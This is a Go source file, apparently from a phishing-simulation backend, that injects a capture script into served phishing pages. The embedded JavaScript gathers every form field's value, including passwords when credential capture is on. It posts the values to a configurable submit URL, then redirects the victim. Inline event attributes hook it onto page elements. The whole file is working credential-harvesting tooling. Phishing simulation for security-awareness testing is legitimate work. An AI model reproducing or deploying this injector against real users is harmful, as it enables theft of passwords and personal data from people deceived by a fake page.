// Package instrument injects the capture script into a served phishlet.
package instrument

import (
	"encoding/json"
	"regexp"
	"strings"

	"github.com/PuerkitoBio/goquery"
	"github.com/andybalholm/cascadia"

	appErrors "github.com/unclebandit/phishsim-backend/internal/errors"
	"github.com/unclebandit/phishsim-backend/internal/model"
)

// CaptureFunc is the global the injected script defines and the trigger
// attributes call.
const CaptureFunc = "__phishCapture"

var eventAttr = regexp.MustCompile(`^on[a-z]+$`)

// ValidateTriggers rejects rules Inject would silently skip.
func ValidateTriggers(rules []model.TriggerRule) error {
	for i, rule := range rules {
		if strings.TrimSpace(rule.Selector) == "" {
			return appErrors.NewInvalid("trigger_rules[%d]: selector is required", i)
		}
		if _, err := cascadia.Compile(rule.Selector); err != nil {
			return appErrors.NewInvalid("trigger_rules[%d]: invalid selector %q: %v", i, rule.Selector, err)
		}
		if !eventAttr.MatchString(strings.ToLower(strings.TrimSpace(rule.Event))) {
			return appErrors.NewInvalid("trigger_rules[%d]: %q is not an inline event attribute", i, rule.Event)
		}
	}
	return nil
}

type Options struct {
	SubmitURL          string
	RedirectURL        string
	Triggers           []model.TriggerRule
	CaptureCredentials bool
	CaptureOtherData   bool
}

// scriptConfig is embedded as JSON so no option value is ever spliced into
// JavaScript source.
type scriptConfig struct {
	SubmitURL   string `json:"submitUrl"`
	RedirectURL string `json:"redirectUrl,omitempty"`
	Passwords   bool   `json:"passwords"`
	Others      bool   `json:"others"`
}

const captureScript = `(function () {
  var cfg = %CONFIG%;
  window.%FUNC% = function () {
    var data = {};
    document.querySelectorAll('input, select, textarea').forEach(function (el) {
      var isPassword = (el.type || '').toLowerCase() === 'password';
      if (isPassword ? !cfg.passwords : !cfg.others) { return; }
      var key = el.name || el.id || el.tagName;
      var value = el.value;
      if (el.type === 'checkbox' || el.type === 'radio') { value = el.checked; }
      data[key] = {
        type: (el.type || el.tagName).toLowerCase(),
        value: value,
        id: el.id || '',
        required: el.required || false,
        placeholder: el.placeholder || ''
      };
    });
    var done = function () { if (cfg.redirectUrl) { window.location.href = cfg.redirectUrl; } };
    fetch(cfg.submitUrl, {
      method: 'POST',
      keepalive: true,
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ fields: data })
    }).then(done, done);
    return false;
  };
})();`

// Inject returns html with the capture script appended to <body> (falling
// back to <head>, then the document root) and the trigger attributes set.
// When neither capture flag is on the document is returned unchanged.
func Inject(html string, opts Options) (string, error) {
	doc, err := goquery.NewDocumentFromReader(strings.NewReader(html))
	if err != nil {
		return "", err
	}
	if !opts.CaptureCredentials && !opts.CaptureOtherData {
		return goquery.OuterHtml(doc.Selection)
	}

	cfg, err := json.Marshal(scriptConfig{
		SubmitURL:   opts.SubmitURL,
		RedirectURL: opts.RedirectURL,
		Passwords:   opts.CaptureCredentials,
		Others:      opts.CaptureOtherData,
	})
	if err != nil {
		return "", err
	}
	src := strings.NewReplacer("%CONFIG%", string(cfg), "%FUNC%", CaptureFunc).Replace(captureScript)
	tag := "<script>" + src + "</script>"

	switch {
	case doc.Find("body").Length() > 0:
		doc.Find("body").First().AppendHtml(tag)
	case doc.Find("head").Length() > 0:
		doc.Find("head").First().AppendHtml(tag)
	default:
		doc.Selection.AppendHtml(tag)
	}

	triggers := opts.Triggers
	if len(triggers) == 0 {
		triggers = model.DefaultTriggerRules
	}
	for _, rule := range triggers {
		event := strings.ToLower(strings.TrimSpace(rule.Event))
		if rule.Selector == "" || !eventAttr.MatchString(event) {
			continue
		}
		doc.Find(rule.Selector).Not("script").SetAttr(event, CaptureFunc+"()")
	}

	return goquery.OuterHtml(doc.Selection)
}
